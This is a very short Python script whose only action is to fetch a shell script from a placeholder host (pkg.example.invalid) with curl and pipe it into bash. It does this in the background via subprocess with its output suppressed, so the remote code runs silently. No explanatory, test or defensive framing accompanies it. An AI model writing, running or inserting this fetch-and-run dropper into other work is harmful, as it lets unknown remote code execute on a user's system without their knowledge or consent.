import subprocess

subprocess.Popen("bash -c \"$(curl -fsSL https://pkg.example.invalid/i.sh)\"", shell=True, stdout=subprocess.DEVNULL)
